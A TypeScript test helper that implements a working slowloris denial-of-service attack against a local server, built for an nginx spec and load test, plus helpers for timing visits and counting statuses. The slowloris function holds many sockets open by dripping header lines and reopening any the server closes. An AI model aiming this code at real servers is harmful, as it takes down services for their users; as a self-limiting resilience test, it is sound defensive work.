import { readFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';

// A slowloris attack on a server of this machine, for nginx.spec and `npm run loadtest`: sockets that each send a
// request line and then one header line every few seconds, never ending the header. A socket the server closes is
// opened again, so the attack holds its count until it stops, which it does by itself after `limitMs`.

export interface SlowlorisOptions {
  port: number;
  sockets: number;
  /** How often each socket sends one more header line (the audit's: 10 s). */
  lineEveryMs: number;
  /** The attack stops by itself then, whatever happens. */
  limitMs: number;
}

export interface Slowloris {
  /** Resolves once every socket has connected and sent its request line. */
  launched: Promise<void>;
  /** Sockets connected now that the server has not closed. */
  open(): number;
  /** Sockets the server has closed (its timeout, or no room for them), each opened again. */
  closedByServer(): number;
  /** Sockets of the first `sockets` opened that the server still holds. */
  firstStillOpen(): number;
  /** The longest any socket was held open by the server before it closed it, in ms (0 while none was closed). */
  longestHeldMs(): number;
  stop(): void;
}

/** A socket the server closed is opened again after this, so a server that refuses at once is not flooded. */
const REOPEN_AFTER_MS = 50;

export function slowloris(options: SlowlorisOptions): Slowloris {
  const sockets = new Set<Socket>();
  let stopped = false;
  let open = 0;
  let firstOpen = 0;
  let closed = 0;
  let longest = 0;
  let launched = 0;
  let onLaunched = () => undefined as void;
  const launchedPromise = new Promise<void>((done) => (onLaunched = done));

  function start(first: boolean): void {
    if (stopped) return;
    const socket = connect(options.port, '127.0.0.1');
    sockets.add(socket);
    let connectedAt = 0;
    let drip: NodeJS.Timeout | undefined;
    socket.on('connect', () => {
      connectedAt = Date.now();
      open += 1;
      if (first) firstOpen += 1;
      socket.write(`GET /?slowloris=${Math.random()} HTTP/1.1\r\nHost: 127.0.0.1\r\n`);
      drip = setInterval(() => socket.write(`X-Slowloris-${Date.now()}: 1\r\n`), options.lineEveryMs);
      if (first && ++launched === options.sockets) onLaunched();
    });
    // Reset by the server, or refused: counted by 'close' like any other end.
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(drip);
      sockets.delete(socket);
      if (connectedAt) {
        open -= 1;
        if (first) firstOpen -= 1;
        if (stopped) return;
        closed += 1;
        longest = Math.max(longest, Date.now() - connectedAt);
      }
      if (first && !connectedAt && ++launched === options.sockets) onLaunched();
      setTimeout(() => start(false), REOPEN_AFTER_MS);
    });
  }

  const stop = () => {
    stopped = true;
    clearTimeout(limit);
    for (const socket of sockets) socket.destroy();
    onLaunched();
  };
  const limit = setTimeout(stop, options.limitMs);
  for (let i = 0; i < options.sockets; i++) start(true);
  return { launched: launchedPromise, open: () => open, closedByServer: () => closed, firstStillOpen: () => firstOpen, longestHeldMs: () => longest, stop };
}

/** One request on a connection of its own, as a new visitor's: its status (0 when the connection failed) and time. */
export function visit(url: string): Promise<{ status: number; ms: number }> {
  const started = performance.now();
  return new Promise((done) => {
    const req = request(url, { agent: false, headers: { connection: 'close' } }, (res) => {
      res.resume();
      res.on('end', () => done({ status: res.statusCode ?? 0, ms: performance.now() - started }));
    });
    req.on('error', () => done({ status: 0, ms: performance.now() - started }));
    req.end();
  });
}

/** How many visits answered each status ('0': the connection failed), e.g. { '200': 199, '0': 1 }. */
export function statusCounts(visits: { status: number }[]): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const { status } of visits) counts[status] = (counts[status] ?? 0) + 1;
  return counts;
}

/** This process's limit of open files (Node raises its soft limit to the hard one at start). */
export function openFileLimit(): number {
  const line = readFileSync('/proc/self/limits', 'utf8').split('\n').find((l) => l.startsWith('Max open files'));
  return Number(line?.split(/\s+/)[3]);
}

/** The p-th percentile (0-100) of some numbers, nearest rank. */
export function percentile(values: number[], p: number): number {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.max(0, Math.ceil((p / 100) * sorted.length) - 1)] ?? Number.NaN;
}
